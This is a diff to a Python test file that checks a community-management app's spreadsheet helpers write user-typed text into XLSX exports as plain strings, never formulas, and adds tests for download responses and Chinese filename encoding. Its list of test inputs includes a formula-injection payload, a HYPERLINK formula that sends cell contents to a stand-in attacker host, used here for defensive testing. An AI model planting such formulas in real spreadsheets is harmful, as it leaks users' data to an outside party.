@@ -1,6 +1,7 @@
 """Text typed by people goes into the XLSX files as text, never as a formula (formula injection):
 the cell reads back unchanged, is a string cell, and the file holds no formula; the catalog's
-export (office-entered text) writes through the same helper."""
+export (office-entered text) writes through the same helper; `xlsx_bytes` writes every cell
+that way and `xlsx_response` answers the download."""
 
 import datetime as dt
 import io
@@ -12,7 +13,14 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from communitygate.catalog.transfer import export_xlsx
-from communitygate.core.spreadsheets import FORMULA_STARTS, plain_cell, plain_row
+from communitygate.core.spreadsheets import (
+    FORMULA_STARTS,
+    XLSX_CONTENT_TYPE,
+    plain_cell,
+    plain_row,
+    xlsx_bytes,
+    xlsx_response,
+)
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")',
@@ -120,3 +128,42 @@ def test_the_catalogs_export_writes_office_text_as_text() -> None:
     assert row[1].value == "=CODE"
     assert row[2].value == '=HYPERLINK("http://evil.example","事项")'
     assert "<f>" not in sheet_xml(content)
+
+
+def test_xlsx_bytes_writes_headers_and_plain_rows_and_counts_the_rows() -> None:
+    rows: list[list[object]] = [
+        ["甲", "=1+1", 3, dt.date(2026, 11, 23)],
+        ["乙", "@SUM(A1)", None, None],
+    ]
+    content, count = xlsx_bytes("名册", ("姓名", "备注", "数", "日期"), iter(rows))
+    assert count == 2
+    workbook = load_workbook(io.BytesIO(content))
+    assert workbook.sheetnames == ["名册"]
+    values = list(workbook["名册"].iter_rows(values_only=True))
+    assert values == [
+        ("姓名", "备注", "数", "日期"),
+        ("甲", "=1+1", 3, dt.datetime(2026, 11, 23)),
+        ("乙", "@SUM(A1)", None, None),
+    ]
+    assert "<f>" not in sheet_xml(content) and "<f " not in sheet_xml(content)
+
+
+def test_xlsx_bytes_of_no_rows_is_the_headers_alone() -> None:
+    content, count = xlsx_bytes("表", ["列"], [])
+    assert count == 0
+    assert list(load_workbook(io.BytesIO(content))["表"].iter_rows(values_only=True)) == [("列",)]
+
+
+def test_xlsx_response_is_a_download_under_its_name() -> None:
+    response = xlsx_response(b"PK", "matters-20261123.xlsx")
+    assert response["Content-Type"] == XLSX_CONTENT_TYPE
+    assert response["Content-Disposition"] == 'attachment; filename="matters-20261123.xlsx"'
+    assert response.content == b"PK"
+
+
+def test_xlsx_response_encodes_a_chinese_name() -> None:
+    response = xlsx_response(b"PK", "居民信息导入模板.xlsx")
+    assert response["Content-Disposition"] == (
+        "attachment; filename*=UTF-8''"
+        "%E5%B1%85%E6%B0%91%E4%BF%A1%E6%81%AF%E5%AF%BC%E5%85%A5%E6%A8%A1%E6%9D%BF.xlsx"
+    )
